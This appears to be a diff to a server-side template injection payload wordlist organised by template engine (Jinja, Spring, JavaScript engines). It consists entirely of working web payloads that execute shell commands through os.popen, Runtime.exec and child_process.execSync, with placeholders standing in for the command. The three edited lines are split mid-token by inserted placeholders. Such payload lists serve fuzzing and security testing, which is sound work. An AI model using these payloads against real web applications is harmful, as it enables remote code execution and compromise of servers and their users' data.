@@ -79,7 +79,8 @@ jinja
     {{«holder».__init__.__globals__.os.popen('«unix_command»').read()}}
     {{«holder».__globals__['os'].popen("«plain_command»").read()}}
     {{«holder»|attr("__globals__")|attr("__getitem__")("os")}}
-    {%«space»for«space»§«space»in«space»«object».__class__.__base__.__subclasses__()«space»%}{{§}}{%«space»endfor«space»%}
+    {%«space»for«space»§«space»in«space»«object».__class__.__base__.__subclasses__()«space»%}{{§}}{%«space»endfor«»
+    «space»%}
     {%«space»set«space»§=«holder».__globals__.os.popen('«plain_command»')«space»%}{{§.read()}}
     {%«space»import«space»os«space»%}{{os.system('«plain_command»')}}
     {{''|attr(['_'*2,'class','_'*2]|join)}}
@@ -131,7 +132,8 @@ velocity
 spring
     ${T(java.lang.Runtime).getRuntime().exec('«plain_command»')}
     __${T(java.lang.Runtime).getRuntime().exec("«unix_command»")}__::.«lower:1»
-    *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«plain_command»').getInputStream())}
+    *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«plain_command»').getInput«»
+    Stream())}
     #{T(java.lang.System).getenv()}
     ${T(java.lang.System).getProperty('«label».«label»')}
     ${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("«plain_command»").getInputStream()).next()}
@@ -170,7 +172,8 @@ javascript
     {{$on.constructor('«js»')()}}
     {{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };«js»//');}}
     #{root.process.mainModule.require('child_process').spawnSync('«plain_command»').stdout}
-    #{function(){localLoad=global.process.mainModule.constructor._load;localLoad('child_process').exec('«plain_command»')}()}
+    #{function(){localLoad=global.process.mainModule.constructor._load;localLoad('child_process').exec('«»
+    «plain_command»')}()}
     ${global.process.mainModule.require('child_process').execSync('«plain_command»')}
     {{range.constructor("return global.process.mainModule.require('child_process').execSync('«plain_command»')")()}}
     {{#with "s" as |string|}}{{#with "e"}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/with}}{{/with}}
